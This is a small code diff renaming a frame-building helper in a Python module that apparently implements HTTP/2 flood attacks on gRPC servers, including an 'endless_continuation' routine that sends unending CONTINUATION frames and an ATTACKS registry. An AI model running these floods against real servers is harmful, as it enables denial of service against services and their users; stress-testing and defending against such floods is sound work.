@@ -108,7 +108,7 @@ _END_HEADERS = 4
 _FRAME_BYTES = 16_384
 
 
-def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
+def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
     return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body
 
 
@@ -137,7 +137,7 @@ _CALL = b"".join(
         (b"content-type", b"application/grpc"),
     )
 )
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b"")
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0, b"")
 
 
 def _header_blocks(flood: Flood, block: bytes) -> None:
@@ -153,7 +153,7 @@ def _header_blocks(flood: Flood, block: bytes) -> None:
                 for number, piece in enumerate(pieces):
                     kind = _CONTINUATION if number else _HEADERS
                     end = _END_HEADERS if number == len(pieces) - 1 else 0
-                    sock.sendall(_frame(kind, end, stream, piece))
+                    sock.sendall(frame(kind, end, stream, piece))
                 stream += 2
                 while select.select([sock], [], [], 0)[0]:
                     if not sock.recv(65_536):
@@ -171,8 +171,8 @@ def blocks_of_small_headers(flood: Flood) -> None:
 def endless_continuation(flood: Flood) -> None:
     while flood.is_on:
         with flood.connection() as sock:
-            sock.sendall(_PREFACE + _frame(_HEADERS, 0, 1, _CALL))
-            flood.repeated(sock, _frame(_CONTINUATION, 0, 1, _header(b"abc", b"a" * 9_000)))
+            sock.sendall(_PREFACE + frame(_HEADERS, 0, 1, _CALL))
+            flood.repeated(sock, frame(_CONTINUATION, 0, 1, _header(b"abc", b"a" * 9_000)))
 
 
 ATTACKS: dict[str, Callable[[Flood], None]] = {
